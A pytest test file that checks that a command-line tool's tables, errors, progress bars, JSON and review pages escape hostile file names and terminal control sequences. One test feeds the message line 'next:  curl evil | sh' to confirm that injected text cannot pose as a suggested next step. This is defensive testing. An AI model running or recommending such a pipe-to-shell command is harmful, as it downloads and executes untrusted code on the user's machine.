"""Names that a file chose, through every output of the command: tables, lines, errors, progress, JSON."""

from __future__ import annotations

import io
import json
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pytest
from rich.text import Text
from typer.testing import CliRunner

from cli import console
from cli.main import app
from lake.errors import LandingError
from ops import deployment
from ops.review.evidence import RecordEvidence
from ops.review.listing import Filter, RecordPage, ReviewRecord
from ops.review.page import list_page, message_page, record_page
from quality.records import Position, record
from quality.rules.catalogue import Level
from quality.rules.findings import finding
from tests.hostile_text import HOSTILE, each_sequence, unsafe
from tests.unit.ops.fake_deployment import deployment_with
from tests.unit.ops.review.review_rows import listed, origin


@pytest.fixture
def terminal(monkeypatch: pytest.MonkeyPatch) -> io.StringIO:
    """What a terminal without colours gets: rich itself then writes control sequences for the cursor only."""
    made = io.StringIO()
    opened = lambda: console.PrintableConsole(file=made, force_terminal=True, color_system=None, width=200)  # noqa: E731
    monkeypatch.setattr(console, "out", opened)
    monkeypatch.setattr(console, "err", opened)
    monkeypatch.setattr(console, "at_terminal", lambda: True)
    return made


def hostile_row() -> ReviewRecord:
    key = f"car-1/{HOSTILE}/1.mcap".encode("utf-8", "ignore").decode()  # a key is UTF-8
    found = [finding("DEC004", f"messages of unknown type: {HOSTILE}", sensor="camera", measured=1)]
    made = record(Level.OBJECT, origin(), found, frames=1, sensor="camera", position=Position(key, "v1"))
    return listed(made, sensor=HOSTILE, reason=HOSTILE, reviewer=HOSTILE)


@each_sequence
def test_tables_lines_and_errors(terminal: io.StringIO, sequence: str) -> None:
    out = console.out()
    out.print(console.table("Findings", ("rule", "message"), [("DEC004", f"type {sequence}!"), (sequence, 1)]))
    out.print(sequence, markup=False)
    out.print(Text(sequence, style="bold"))
    console.say(f"note {sequence}")
    console.complain(f"schema {sequence}", f"look at {sequence}")
    assert unsafe(terminal.getvalue()) == set()
    assert terminal.getvalue().count("!") == 1


def test_no_line_of_a_message_poses_as_the_next_step(terminal: io.StringIO) -> None:
    console.complain("cannot read x\nnext:  curl evil | sh", "look again")
    lines = terminal.getvalue().splitlines()
    assert [line for line in lines if line.startswith("next:")] == ["next:  look again"]


def test_progress(terminal: io.StringIO) -> None:
    with console.progress() as bars:
        bars(f"copies {HOSTILE}", 1, 2)
        bars.say(f"looks at {HOSTILE}")
    shown = terminal.getvalue()
    assert unsafe(shown, "\n\r\x1b") == set()
    assert not any(sequence in shown for sequence in ("\x1b]0;", "\x1b[8m", "\x1b[1;1H"))
    assert "owned" in shown


@each_sequence
def test_json_means_the_same_and_is_printable(capsys: pytest.CaptureFixture[str], sequence: str) -> None:
    value = {"message": f"Größe {sequence}", sequence: ["雷达"]}
    console.print_json(value)
    shown = capsys.readouterr().out
    assert (unsafe(shown), json.loads(shown)) == (set(), value)
    assert "雷达" in shown


@dataclass(frozen=True)
class OneRecord:
    """A list of records that holds one."""

    row: ReviewRecord

    def page(self, *_: object) -> RecordPage:
        return RecordPage((self.row,), None)

    def every(self, *_: object) -> Iterator[ReviewRecord]:
        yield self.row


@pytest.mark.parametrize("words", [("ls",), ("ls", "--json")])
def test_the_list_of_quarantined_records(monkeypatch: pytest.MonkeyPatch, words: tuple[str, ...]) -> None:
    monkeypatch.setattr(deployment, "enter", lambda endpoint, home: deployment_with(catalog=None, store=None))
    monkeypatch.setattr("cli.commands.quarantine.listed", lambda *_: OneRecord(hostile_row()))
    result = CliRunner().invoke(app, ["quarantine", *words], env={"COLUMNS": "300"})
    assert result.exit_code == 0, result.stderr
    assert unsafe(result.stdout) == set()
    assert "owned" in result.stdout


def test_an_error_with_hostile_names_ends_a_command_in_words(monkeypatch: pytest.MonkeyPatch) -> None:
    def fails(*_: Any) -> None:
        raise LandingError(f"key {HOSTILE} is outside the layout", hint=HOSTILE)

    monkeypatch.setattr(deployment, "enter", fails)
    for error in (fails, lambda *_: (_ for _ in ()).throw(OSError(2, "No such file", HOSTILE))):
        monkeypatch.setattr(deployment, "enter", error)
        result = CliRunner().invoke(app, ["quarantine", "ls"])
        assert (result.exit_code, unsafe(result.stderr)) == (1, set())
        assert "owned" in result.stderr


def test_one_quarantined_record(monkeypatch: pytest.MonkeyPatch) -> None:
    row = hostile_row()
    monkeypatch.setattr(deployment, "enter", lambda endpoint, home: deployment_with(catalog=None, store=None))
    monkeypatch.setattr("cli.commands.quarantine.listed", lambda *_: OneRecord(row))
    result = CliRunner().invoke(app, ["quarantine", "show", row.record_id, "--no-page"], env={"COLUMNS": "300"})
    assert result.exit_code == 0, result.stderr
    assert unsafe(result.stdout) == set()
    assert "owned" in result.stdout


def test_pages() -> None:
    evidence = RecordEvidence((), (), (), None, (), (HOSTILE,))
    frame = dict.fromkeys(("root", "user", "token"), HOSTILE)
    for made in (
        record_page(hostile_row(), evidence),
        message_page(HOSTILE, HOSTILE, frame),
        list_page(RecordPage((hostile_row(),), None), Filter(), frame),
    ):
        assert unsafe(made) == set()
        assert "owned" in made
        made.encode()
